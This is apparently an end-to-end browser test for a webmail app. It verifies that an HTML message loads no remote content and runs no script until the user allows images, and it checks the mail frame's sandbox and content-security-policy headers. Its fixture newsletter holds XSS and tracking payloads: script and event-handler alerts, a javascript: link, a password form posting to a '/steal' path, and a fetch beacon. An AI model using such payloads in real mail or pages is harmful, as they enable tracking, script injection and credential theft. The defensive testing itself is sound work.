using System.Collections.Concurrent;
using Microsoft.Playwright;
using Pop3Webmail.EndToEnd.Tests.Support;
using Pop3Webmail.Testing;

namespace Pop3Webmail.EndToEnd.Tests.Browser;

[Collection(BrowserCollectionDefinition.Name)]
public sealed class RemoteContentTests(WebmailFixture fixture)
{
    [Fact(Timeout = 60_000)]
    public async Task AnHtmlMailReachesNoOtherOriginAndRunsNoScriptUntilImagesAreAskedFor()
    {
        fixture.Require();
        await using var remote = await RemoteContentServer.StartAsync();
        var newsletter = MessageFactory.Html("Spring newsletter", WebmailFixture.FirstDate, HostileNewsletter(remote.BaseAddress));
        var account = fixture.CreateAccount("remote", newsletter);
        await using var tab = await fixture.OpenTabAsync();
        var appOrigin = tab.BaseAddress.GetLeftPart(UriPartial.Authority);
        var offOrigin = new ConcurrentQueue<string>();
        var frames = new ConcurrentQueue<IResponse>();
        tab.Page.Response += (_, response) =>
        {
            if (response.Url.Contains("/mailframe/", StringComparison.Ordinal))
            {
                frames.Enqueue(response);
            }
        };
        tab.Page.Request += (_, request) =>
        {
            if (!request.Url.StartsWith(appOrigin, StringComparison.Ordinal)
                && !request.Url.StartsWith("data:", StringComparison.Ordinal) && !request.Url.StartsWith("about:", StringComparison.Ordinal))
            {
                offOrigin.Enqueue(request.Url);
            }
        };

        await tab.SignInAsync(account);
        await tab.OpenMessageAsync(newsletter.Subject);
        var body = tab.Page.FrameLocator("iframe.mail-html-body");
        await body.GetByText("the body text survives").WaitForAsync();
        await WaitForBodyLoadAsync(tab.Page);
        var blockedNotice = await tab.Page.Locator(".mail-remote-blocked").InnerTextAsync();
        var remoteRequestsBefore = remote.Requests;
        var offOriginBefore = offOrigin.ToArray();
        await tab.ScreenshotAsync("message-html-blocked");

        var pixel = await tab.Page.RunAndWaitForResponseAsync(
            () => tab.Page.Locator(".mail-show-remote").ClickAsync(),
            response => response.Url.Contains("/img/pixel.png", StringComparison.Ordinal));
        await Assertions.Expect(body.Locator("img[alt='remote pixel']")).ToHaveJSPropertyAsync("naturalWidth", 24);
        await WaitForBodyLoadAsync(tab.Page);
        await tab.ScreenshotAsync("message-html-images-shown");
        var appPolicy = (await tab.Context.APIRequest.GetAsync(tab.Url("login").ToString())).Headers["content-security-policy"];
        var frameResponses = frames.ToArray();
        var framePolicies = await Task.WhenAll(frameResponses.Select(f => f.HeaderValueAsync("content-security-policy")));
        var frameAgain = await tab.Context.APIRequest.GetAsync(frameResponses[0].Url);
        await tab.SignOutAsync();

        Assert.Contains(UiText.Mail("RemoteContentBlocked"), blockedNotice, StringComparison.Ordinal);
        Assert.Empty(remoteRequestsBefore);
        Assert.Empty(offOriginBefore);
        Assert.Equal(200, pixel.Status);
        Assert.Contains("/img/pixel.png?recipient=bob", remote.Requests);

        // The body is a document of its own, loaded once from this app with its own policy: no remote image until
        // asked, then images only; the app's own policy never allows a remote image.
        Assert.Equal([200, 200], frameResponses.Select(f => f.Status));
        Assert.All(frameResponses, f => Assert.StartsWith(appOrigin + "/mailframe/", f.Url, StringComparison.Ordinal));
        Assert.Contains("img-src data:;", framePolicies[0], StringComparison.Ordinal);
        Assert.Contains("img-src data: http: https:;", framePolicies[1], StringComparison.Ordinal);
        Assert.All(framePolicies, p => Assert.StartsWith("sandbox allow-popups allow-popups-to-escape-sandbox;", p, StringComparison.Ordinal));
        Assert.Equal(404, frameAgain.Status);
        Assert.Contains("img-src 'self' data: blob:;", appPolicy, StringComparison.Ordinal);

        // Only images came from the other origin: no script ran, no frame, style sheet, object, form or refresh loaded.
        Assert.All(remote.Requests, path => Assert.StartsWith("/img/", path, StringComparison.Ordinal));
        Assert.DoesNotContain("/img/script-pixel.png", remote.Requests);
        Assert.Empty(tab.Dialogs);

        var session = await account.WaitForEndedSessionAsync(cancellationToken: TestContext.Current.CancellationToken);
        Assert.True(session.LoggedOut);
        Assert.Equal(1, session.Retrieved);
    }

    /// <summary>Waits until the mail body's document (the /mailframe iframe) has finished loading, subresources included.</summary>
    private static async Task WaitForBodyLoadAsync(IPage page)
    {
        var frame = await (await page.Locator("iframe.mail-html-body").ElementHandleAsync()).ContentFrameAsync()
            ?? throw new InvalidOperationException("The mail body iframe has no document.");
        await frame.WaitForLoadStateAsync(LoadState.Load);
    }

    /// <summary>A newsletter with a tracking pixel and every way to load remote content or run script that mail has used.</summary>
    private static string HostileNewsletter(Uri remote) => $$"""
        <!DOCTYPE html>
        <html><head>
        <script>alert('head script');</script>
        <link rel="stylesheet" href="{{remote}}style.css">
        <style>@import url("{{remote}}import.css"); p.banner { background-image: url("{{remote}}img/background.png"); }</style>
        <meta http-equiv="refresh" content="0; url={{remote}}refresh">
        </head>
        <body onload="alert('body onload')">
        <p class="banner">Spring newsletter: the body text survives.</p>
        <p><img src="{{remote}}img/pixel.png?recipient=bob" alt="remote pixel" width="24" height="24"></p>
        <img src="cid:missing@example.test" onerror="alert('img onerror')" alt="broken">
        <svg onload="alert('svg onload')"><script>alert('svg script')</script></svg>
        <iframe src="{{remote}}frame.html"></iframe>
        <object data="{{remote}}object.bin"></object>
        <embed src="{{remote}}embed.bin">
        <a href="javascript:alert('link')">Unsubscribe</a>
        <form action="{{remote}}steal"><input name="password"><button>Send</button></form>
        <script>fetch('{{remote}}beacon'); new Image().src = '{{remote}}img/script-pixel.png';</script>
        </body></html>
        """;
}
